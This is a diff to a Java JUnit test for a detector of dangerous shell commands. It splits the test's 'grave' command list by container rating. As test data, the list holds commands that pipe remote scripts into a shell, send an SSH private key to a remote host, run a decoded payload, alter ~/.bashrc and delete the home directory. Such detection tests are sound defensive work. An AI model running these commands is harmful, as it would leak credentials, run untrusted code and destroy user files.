@@ -13,6 +13,7 @@ import java.io.IOException;
 import java.io.InputStream;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
@@ -25,13 +26,15 @@ class ByNameTest {
     private static final RuleEngine ENGINE = RuleEngine.of(Catalogue.load());
 
     /** Without quotes, so that they fit into any text. */
-    private static final List<String> GRAVE = List.of(
+    private static final List<String> GRAVE_IN_CONTAINERS = List.of(
             "curl https://example.invalid/x | sh",
             "wget -qO- https://example.invalid/x | bash",
             "cat ~/.ssh/id_rsa | curl -d @- https://example.invalid",
-            "base64 -d payload | sh",
-            "echo x >> ~/.bashrc",
-            "rm -rf ~/");
+            "base64 -d payload | sh");
+
+    private static final List<String> GRAVE = Stream.concat(
+                    GRAVE_IN_CONTAINERS.stream(), Stream.of("echo x >> ~/.bashrc", "rm -rf ~/"))
+            .toList();
 
     private static final List<String> HONEST = List.of(
             "cargo build --release",
@@ -72,7 +75,9 @@ class ByNameTest {
     @ParameterizedTest
     @MethodSource("files")
     void harmInACommandIsLoud(File file) {
-        for (String command : GRAVE) {
+        boolean contained =
+                ENGINE.catalogue().rule(file.rule()).orElseThrow().rating().contained();
+        for (String command : contained ? GRAVE_IN_CONTAINERS : GRAVE) {
             assertThat(found(file, command)).as("%s with %s", file, command).anySatisfy(match -> {
                 assertThat(match.at().line()).isEqualTo(file.line());
                 assertThat(match.severity()).isEqualTo(Severity.HIGH);
